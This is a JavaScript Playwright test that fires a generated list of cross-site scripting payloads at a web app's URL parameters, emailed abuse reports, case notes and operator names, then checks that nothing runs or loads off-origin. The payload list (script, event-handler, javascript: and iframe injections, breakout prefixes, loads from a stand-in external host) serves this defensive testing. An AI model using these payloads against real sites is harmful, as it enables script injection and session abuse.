// Hostile strings in every field: whatever strangers, reporters and operators can write is shown as text and as nothing else.
//
// Wants NIGHTDESK_URL, NIGHTDESK_OPERATOR and NIGHTDESK_PASSWORD of a desk, and NIGHTDESK_SMTP, where its mail comes in as
// HOST:PORT. NIGHTDESK_EVERY says that each field gets one string in so many (1, the default: all); which, differs from field to
// field, so that a short walk still tries each string somewhere.
//
// A string has done harm when anything of it runs, when the page asks anybody but its own server for anything, when its
// content policy had to hold something back, or when an element of the string is in the page. Exits 1 at the first.

import assert from "node:assert/strict";
import { once } from "node:events";
import net from "node:net";
import { chromium } from "playwright-core";

const wanted = (name) => {
  const value = process.env[name];
  if (!value) throw new Error(`${name} is not set: see the head of hostile.mjs`);
  return value;
};
const base = new URL(wanted("NIGHTDESK_URL"));
const every = Number(process.env.NIGHTDESK_EVERY ?? 1);
const AWAY = "//198.51.100.7";
const ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
  "--disable-component-update", "--disable-sync"];

/** What stands before: out of text, of attributes, of elements that hold text, of scripts, styles, comments and templates. */
const OUT_OF = ["", "\">", "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "</select>", "</svg>", "</pre></td></tr></table>",
  "-->", "]]>", "\"/>", "\" ", "' ", "\\\">", "&quot;&gt;", "%22%3E", "\u2028\">", "\u0000\">", "{{", "${", "</mark></p>\">", "\r\n\r\n"];
/** What would run, call out or change the page. */
const THEN = [
  "<script data-hostile>hostile()</script>", "<ScRiPt data-hostile >hostile()</sCrIpT>", `<script data-hostile src=${AWAY}/a.js></script>`,
  "<img data-hostile src=x onerror=hostile()>", "<svg data-hostile onload=hostile()>", "<svg><script data-hostile>hostile()</script></svg>",
  "<math data-hostile><a xlink:href=javascript:hostile()>x</a></math>", "<iframe data-hostile srcdoc='<script>top.hostile()</script>'></iframe>",
  `<iframe data-hostile src=${AWAY}/></iframe>`, `<link data-hostile rel=stylesheet href=${AWAY}/a.css>`, `<base data-hostile href=${AWAY}/>`,
  `<meta data-hostile http-equiv=refresh content='0;url=${AWAY}/'>`, `<form data-hostile action=${AWAY}/><button>Release</button></form>`,
  "<details data-hostile open ontoggle=hostile()>", "<input data-hostile autofocus onfocus=hostile()>", "onmouseover=hostile() autofocus onfocus=hostile() data-hostile=",
  "<a data-hostile href=javascript:hostile()>x</a>", `<img data-hostile src=${AWAY}/pixel.gif>`, "<style data-hostile>*{background:url(//198.51.100.7/)}</style>",
  "<template data-hostile><script>hostile()</script></template>", "<div data-hostile hx-get=/logout hx-trigger=load></div>",
  "constructor.constructor('hostile()')()}}<b data-hostile>",
];
const STRINGS = OUT_OF.flatMap((out, first) => THEN.map((then, second) => `${out}${then}#${first * THEN.length + second}`));
assert.ok(STRINGS.length >= 500, `${STRINGS.length} strings`);

/** Fields that are read from the address. */
const IN_ADDRESSES = ["/?q=", "/?q=line:", "/?page=", "/bulk?action=note&q=", "/bulk?action=assign&to=", "/bulk?action=", "/bulk/", "/handover?since=", "/intake?outcome=", "/intake?page=", "/intake?outcome=inbox&done=", "/exposure?scanner=", "/exposure?scanner=198.51.100.66&victim=",
  "/exposure?scanner=198.51.100.66&victim=127.66.0.31&at=", "/exposure?scanner=198.51.100.66&victim=127.66.0.31&at=2026-01-01T00:00:00Z&minutes=",
  "/why?of=", "/timeline?of=", "/timeline/127.66.0.66?day=", "/numbers?from=", "/numbers?to=", "/audit?who=", "/audit?deed=", "/audit?about=",
  "/audit?since=", "/audit?until=", "/login?next=", "/login?ended=", "/case/ND-1?done=", "/why/", "/timeline/", "/runbooks/", "/case/", "/evidence/", "/oncall/", "/c/"];

const fired = [];

async function sitDown(browser) {
  const context = await browser.newContext({ baseURL: base.href });
  await context.exposeFunction("tellOfHarm", (what) => fired.push(what));
  await context.addInitScript(() => {
    window.hostile = () => window.tellOfHarm(`ran at ${location.href}`);
    document.addEventListener("securitypolicyviolation", (event) => window.tellOfHarm(`the policy held back ${event.violatedDirective} ${event.blockedURI}`));
  });
  context.on("request", (request) => {
    if (new URL(request.url()).origin !== base.origin) fired.push(`off origin: ${request.url()}`);
  });
  return context;
}

async function openPage(context) {
  const page = await context.newPage();
  page.on("dialog", (dialog) => { fired.push(`dialog: ${dialog.message()}`); dialog.dismiss(); });
  return page;
}

/** The page is as it would be without the string: nothing of it is an element, an attribute or a script. */
async function unharmed(page, where) {
  const found = await page.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    const wrong = all.filter((one) => one.hasAttribute("data-hostile") || [...one.attributes].some(({ name, value }) =>
      name.startsWith("on") || (["href", "src", "action", "formaction", "xlink:href"].includes(name) && /^\s*(javascript|data):/i.test(value))));
    const scripts = all.filter((one) => one.localName === "script" && !new URL(one.src, location.href).pathname.startsWith("/assets/"));
    return [...wrong, ...scripts].map((one) => one.outerHTML.slice(0, 200));
  });
  assert.deepEqual(found, [], `${where}: elements of a hostile string`);
  assert.deepEqual(fired, [], where);
  assert.equal(new URL(page.url()).origin, base.origin, where);
}

async function logIn(page) {
  await page.goto("/login");
  await page.getByLabel("Operator").fill(wanted("NIGHTDESK_OPERATOR"));
  await page.getByLabel("Password").fill(wanted("NIGHTDESK_PASSWORD"));
  await page.getByRole("button", { name: "Log in" }).click();
  await page.getByRole("heading", { level: 1, name: "Queue" }).waitFor();
}

/** One string in so many, other ones for each field. */
function some(field) {
  return STRINGS.filter((_, number) => (number + field) % every === 0);
}

async function throughAddresses(context) {
  const work = IN_ADDRESSES.flatMap((field, number) => some(number).map((text) => field + encodeURIComponent(text)));
  let next = 0;
  const walker = async () => {
    const page = await openPage(context);
    while (next < work.length) {
      const where = work[next++];
      await page.goto(where, { waitUntil: "domcontentloaded" });
      await unharmed(page, where);
    }
    await page.close();
  };
  await Promise.all([walker(), walker(), walker()]);
  return work.length;
}

/** Says lines to a mail server and waits for its word after each. */
async function deliver(mails) {
  const [host, port] = wanted("NIGHTDESK_SMTP").split(":");
  const socket = net.connect(Number(port), host);
  let heard = "";
  const word = async (code) => {
    for (;;) {
      const line = heard.match(/^(\d{3}) [^\n]*\n/m);
      if (line) {
        heard = "";
        assert.equal(line[1], code, line[0]);
        return;
      }
      const [data] = await once(socket, "data");
      heard += data;
    }
  };
  const say = async (line, code) => { socket.write(`${line}\r\n`); await word(code); };
  await word("220");
  await say("EHLO hostile.example.org", "250");
  for (const mail of mails) {
    await say("MAIL FROM:<reader@mail.example.org>", "250");
    await say("RCPT TO:<abuse@example.net>", "250");
    await say("DATA", "354");
    await say(`${mail.replace(/^\./gm, "..")}\r\n.`, "250");
  }
  await say("QUIT", "221");
  socket.end();
}

/** A report whose every part is the string: names, subject, text, what it quotes, the name of what it encloses. */
function mail(text, number) {
  const line = text.replace(/[\r\n\u0000]/g, " ");
  const date = new Date().toUTCString().replace("GMT", "+0000");
  return [`From: "${line.replace(/["\\]/g, "\\$&")}" <reader@mail.example.org>`, "To: abuse@example.net", `Date: ${date}`, `Subject: spam from 127.66.0.99 ${line}`,
    `Message-ID: <hostile-${number}@mail.example.org>`, `X-Mailer: ${line}`, "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"h\"", "",
    "--h", "Content-Type: text/plain; charset=utf-8", "", `I got spam from 127.66.0.99 at ${date}. ${text}`, `> Received: from ${line} ([127.66.0.99]) by mx.example.org; ${date}`,
    "--h", "Content-Type: text/html; charset=utf-8", "", `<p>Spam from 127.66.0.99</p>${text}`,
    "--h", `Content-Type: text/plain; name="${line.replace(/["\\]/g, "")}"`, `Content-Disposition: attachment; filename="${line.replace(/["\\]/g, "")}"`, "", text, "--h--", ""].join("\r\n");
}

/** Every page that shows something of the mails, the evidence of each among them. */
async function throughMails(context) {
  const strings = some(0);
  await deliver(strings.map(mail));
  const page = await openPage(context);
  const links = new Set();
  for (let number = 1; ; number++) {
    await page.goto(`/intake?page=${number}`);
    await unharmed(page, `/intake?page=${number}`);
    const found = await page.locator("a[href^='/evidence/']").evaluateAll((all) => all.map((one) => new URL(one.href).pathname).filter((path) => !path.endsWith("/raw")));
    const before = links.size;
    found.forEach((path) => links.add(path));
    if (links.size === before || number > 40) break;
  }
  assert.ok(links.size >= strings.length, `${links.size} mails are in the intake, ${strings.length} were sent`);
  for (const where of links) {
    await page.goto(where);
    await unharmed(page, where);
  }
  await page.goto("/?q=127.66.0.99");
  const open = await page.locator("[data-row] [data-open]").first().getAttribute("href");
  for (const where of [open, open.replace("/case/", "/why/"), "/why/127.66.0.99", "/", "/reporters", "/numbers"]) {
    await page.goto(where);
    await unharmed(page, where);
  }
  await page.close();
  return { mails: strings.length, pages: links.size, open };
}

/** What an operator writes: notes on a case, by the form. */
async function throughNotes(context, open) {
  const page = await openPage(context);
  let written = 0;
  for (const text of some(1)) {
    await page.goto(open);
    await page.getByLabel("Reason").fill(text);
    await page.getByRole("button", { name: "Add a note" }).click();
    await page.waitForURL(/done=note/);
    await unharmed(page, `a note ${text}`);
    written += 1;
  }
  await page.close();
  return written;
}

/** The same of names of operators and tokens: refused or taken, it is shown as text. */
async function throughNames(context) {
  const page = await openPage(context);
  let written = 0;
  for (const where of ["/operators", "/tokens"]) {
    for (const text of some(2)) {
      await page.goto(where);
      const form = page.locator("form:has(input[name=name]:not([type=hidden]))").last();
      await form.locator("input[name=name]").fill(text.slice(0, 200));
      await form.getByRole("button").last().click();
      await page.waitForLoadState("domcontentloaded");
      await unharmed(page, `${where} ${text}`);
      written += 1;
    }
  }
  await page.close();
  return written;
}

const browser = await chromium.launch({ executablePath: process.env.NIGHTDESK_CHROMIUM ?? "/usr/bin/chromium", headless: true, args: ARGS });
try {
  const context = await sitDown(browser);
  const page = await openPage(context);
  // A walk that cannot see harm proves nothing.
  await page.goto("/login");
  await page.evaluate(() => window.hostile());
  assert.equal(fired.splice(0).length, 1, "harm is heard of");
  await page.evaluate(() => document.body.insertAdjacentHTML("beforeend", "<b data-hostile>x</b>"));
  await assert.rejects(unharmed(page, "an element of our own"), "harm is seen");
  await logIn(page);
  const { mails, pages, open } = await throughMails(context);
  const addresses = await throughAddresses(context);
  const notes = await throughNotes(context, open);
  const names = await throughNames(context);
  console.log(`hostile: ${STRINGS.length} strings; ${mails} mails on ${pages} pages, ${addresses} addresses of ${IN_ADDRESSES.length} fields, ${notes} notes, ${names} names: nothing ran, nothing left the origin`);
} finally {
  await browser.close();
}
